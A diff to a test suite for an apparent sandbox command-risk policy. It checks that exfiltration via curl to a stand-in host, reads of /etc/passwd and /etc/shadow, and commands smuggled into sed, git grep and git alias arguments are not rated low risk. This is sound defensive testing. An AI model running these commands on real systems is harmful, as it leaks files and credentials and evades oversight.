@@ -83,7 +83,8 @@ _HIGH = (
     ("gh pr list", "network"), ("cat README.md | curl -d @- http://h", "uses the network: curl"),
     ("ls; curl http://h", "uses the network"), ("sudo ls", "runs as another user: sudo"),
     ("su -c ls", "runs as another user: su"), ("doas ls", "another user"),
-    ("docker ps", "outside the sandbox do the work: docker"), ("systemctl restart x", "outside the sandbox"),
+    ("docker ps", "hands work to a program outside the sandbox: docker"),
+    ("systemctl restart x", "outside the sandbox"),
     ("git push --force", "rewrites history: git push --force"), ("git push -f origin x", "rewrites history"),
     ("git push origin +x", "rewrites history"), ("git push origin :x", "rewrites history"),
     ("git commit --amend", "rewrites history"), ("git rebase main", "rewrites history"),
@@ -203,3 +204,26 @@ def test_a_read_outside_the_workspace_is_not_left_to_the_reviewer_of_mode_auto(w
     decision = evaluate(_facts(workspace, "cat /etc/passwd", "closed", "auto"), PolicySettings())
 
     assert (decision.verdict, decision.rule) == ("ask", "outside the workspace")
+
+
+_DOUBTFUL = (
+    "git --shallow-file log -c alias.z='!touch P' z", "git --attr-source HEAD log", "git grep -lOrm hello",
+    "git grep -iO'sh -c id' x", "sed '1e id' -- README.md -e p", "sed -l 1p 'w P' README.md",
+    "sed --line-length 1p '1e id' x", "git bisect view difftool -y", "xxd -ps README.md P", "xxd -bits in out",
+    "cd sub && git status", "tree -Lo 1 P", "tree -Po '*' P", "git branch -v newb", "git tag -a v1",
+    "mvn --version", "yarn --version", "cat ou[[:lower:]]/etc/passwd", "date -uf/etc/shadow", "file -bf/etc/passwd",
+    "grep -vf/etc/passwd x", "du -aX/etc/x", "grep -r x out/*", "rg x out/*", "grep --deref x .", "diff --rec a b",
+    "rg --foll x", "echo /etc/*", "echo ../*", "cat .*/outside/f", "env -iCsecrets cat a/b.txt",
+    "grep --recurs x .", "date -ufsecrets/a", "git fast-export --all", "git archive HEAD",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("command", _DOUBTFUL)
+def test_a_reader_in_a_spelling_that_may_do_more_is_not_low(workspace: Path, command: str) -> None:
+    facts = _facts(workspace, command, "closed")
+
+    assert call_risk(facts, PolicySettings()).level != "low"
+
+
+def test_the_doubtful_spellings_are_many() -> None:
+    assert len(_DOUBTFUL) >= 35
